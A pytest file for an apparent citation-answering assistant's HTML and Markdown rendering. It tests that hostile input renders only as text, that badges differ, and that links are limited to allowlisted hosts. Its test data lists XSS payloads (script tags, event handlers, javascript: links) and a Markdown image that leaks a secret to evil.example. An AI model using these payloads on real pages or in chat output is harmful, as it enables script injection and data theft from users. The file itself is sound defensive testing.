"""Page markup from answers and articles: citations link to their own turn's passages, nothing hostile renders."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from assistant.presentation import render as present
from assistant.types import Answer, Citation, Passage

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/leak?d=secret)",
    "<form action='https://evil.example'><input name=q></form>",
    "<a href='https://evil.example' onclick='steal()'>here</a>",
    '"><svg onload=alert(1)>',
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
]
TAGS = {"a", "sup", "details", "summary", "div", "span", "b", "mark", "section", "p", "br", "h3"}
ATTRIBUTES = {"href", "class", "id", "hidden", "open", "data-turn", "rel", "target"}


class _Markup(HTMLParser):
    """Collects every tag and attribute a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def unsafe(markup: str, *, hosts: tuple[str, ...] = (), markdown: bool = False) -> list[str]:
    """Every tag, attribute or link in `markup` outside what the page may show (with `markdown`: also
    an unescaped Markdown link or image, for text the chat renders as Markdown)."""
    parser = _Markup()
    parser.feed(markup)
    found = []
    for tag, attrs in parser.tags:
        if tag not in TAGS:
            found.append(f"<{tag}>")
        found += [f"{tag}[{name}]" for name in attrs if name not in ATTRIBUTES]
        href = attrs.get("href") or ""
        if href and not href.startswith("#src-") and not any(f"//{h}/" in href for h in hosts):
            found.append(f"href={href}")
    if markdown:
        found += [f"markdown {marker}" for marker in ("](", "![") if marker in markup.replace("\\](", "")]
    return found


def _passage(text: str, *, title: str = "A title", outlet: str = "", author: str = "", url: str = "") -> Passage:
    return Passage(text, "s1", title, 1.0, outlet=outlet, author=author, url=url)


def _answer(text: str, passage: Passage, *, standalone: str = "", evidence: str = "") -> Answer:
    """An answer citing `passage` once; `evidence` is the passage sentence that verified it."""
    return Answer(text, [Citation(1, passage, text, 0.5, evidence)], [passage], standalone_question=standalone)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markup__hostile_answer_and_article_text_render_as_text_only(hostile: str) -> None:
    passage = _passage(f"First {hostile}. Then more.", title=hostile, outlet=hostile, author=hostile, url=hostile)
    answer = _answer(f"It says {hostile} [1].", passage, standalone=hostile)
    conversation = [{"question": hostile, "answer": answer.to_dict()}]
    chat = "".join(m["content"] for m in present.messages(conversation))
    panel = present.sources_html(conversation, chunk_counts={}, link_hosts=())
    article = present.article_html(hostile, hostile, hostile, 2, hostile)
    assert unsafe(chat, markdown=True) == [] and unsafe(panel) == [] and unsafe(article) == []


@pytest.mark.parametrize(
    ("fields", "badge"),
    [
        ({"verdict": "yes"}, "badge verified"),
        ({"hedged": True}, "badge hedged"),
        ({"refused": True}, "badge declined"),
        ({}, None),  # an answer written by the model: its sentences are verified one by one, no verdict
    ],
)
def test_answer_md__a_verdict_a_hedge_and_a_decline_look_different(
    fields: dict[str, object], badge: str | None
) -> None:
    shown = present.answer_md(Answer("No. It says so [1].", **fields), 0)  # type: ignore[arg-type]
    assert (badge in shown) if badge else "badge" not in shown
    assert shown.count("<span") == (1 if badge else 0)


def test_sources_html__marks_the_verifying_sentence_across_a_paragraph_break() -> None:
    passage = _passage("First part.\n\nSecond\npart of it. Other text.")
    shown = present.sources_html(
        [{"question": "q", "answer": _answer("It [1].", passage, evidence="First part. Second part of it.").to_dict()}],
        chunk_counts={},
    )
    assert "<mark>First part.\n\nSecond\npart of it.</mark>" in shown


def test_answer_md__markers_link_to_their_turns_passages() -> None:
    passage = _passage("Sixty-six were killed.")
    answer = Answer("Sixty-six [1]. Nine [7].", [Citation(1, passage, "Sixty-six", 0.5)], [passage])
    assert present.answer_md(answer, 3) == "Sixty\\-six <a href='#src-3-1' class='cite'>[1]</a>\\. Nine \\[7\\]\\."


def test_sources_html__each_turn_has_its_own_section_and_only_the_latest_is_shown() -> None:
    first = _answer(
        "Sixty-six were killed [1].",
        _passage("Reuters says sixty-six were killed. Other text."),
        evidence="Reuters says sixty-six were killed.",
    )
    second = _answer("Seely wrote it [1].", _passage("The letter was by Seely. More."), standalone="Who wrote it?")
    conversation = [
        {"question": "How many?", "answer": first.to_dict()},
        {"question": "And?", "answer": second.to_dict()},
    ]
    panel = present.sources_html(conversation, chunk_counts={"s1": 5}, link_hosts=())
    assert "id='turn-0' data-turn='0' hidden" in panel and "id='turn-1' data-turn='1'>" in panel
    assert "id='src-0-1'" in panel and "id='src-1-1'" in panel
    assert "<mark>Reuters says sixty-six were killed.</mark>" in panel
    assert "part 1 of 5" in panel and "Searched for: Who wrote it?" in panel


@pytest.mark.parametrize(
    ("url", "hosts", "expected"),
    [
        ("https://reuters.com/a", (), ""),
        ("https://reuters.com/a", ("reuters.com",), "https://reuters.com/a"),
        ("https://www.reuters.com/a", ("reuters.com",), "https://www.reuters.com/a"),
        ("https://reuters.com.evil.example/a", ("reuters.com",), ""),
        ("https://user:pw@reuters.com/a", ("reuters.com",), ""),
        ("javascript:alert(1)//reuters.com", ("reuters.com",), ""),
        ("ftp://reuters.com/a", ("reuters.com",), ""),
        ("http://[::1", ("reuters.com",), ""),
    ],
)
def test_safe_url__only_http_links_to_allowlisted_hosts(url: str, hosts: tuple[str, ...], expected: str) -> None:
    assert present.safe_url(url, hosts) == expected


def test_card__an_allowlisted_article_url_becomes_a_link() -> None:
    passage = _passage("Text.", url="https://www.reuters.com/x?a=1&b=2")
    html = present.card(0, 1, passage, None, link_hosts=frozenset({"reuters.com"}))
    assert "href='https://www.reuters.com/x?a=1&amp;b=2'" in html and unsafe(html, hosts=("www.reuters.com",)) == []


def test_turn_of_message__maps_chat_rows_to_saved_turns() -> None:
    cited = _answer("Sixty-six [1].", _passage("Sixty-six."))
    refused = Answer("The articles do not say.", refused=True)
    conversation = [{"question": "a", "answer": cited.to_dict()}, {"question": "b", "answer": refused.to_dict()}]
    # rows: 0 question a, 1 answer a, 2 sources of a, 3 question b, 4 answer b
    assert [present.turn_of_message(conversation, i) for i in range(6)] == [0, 0, 0, 1, 1, None]
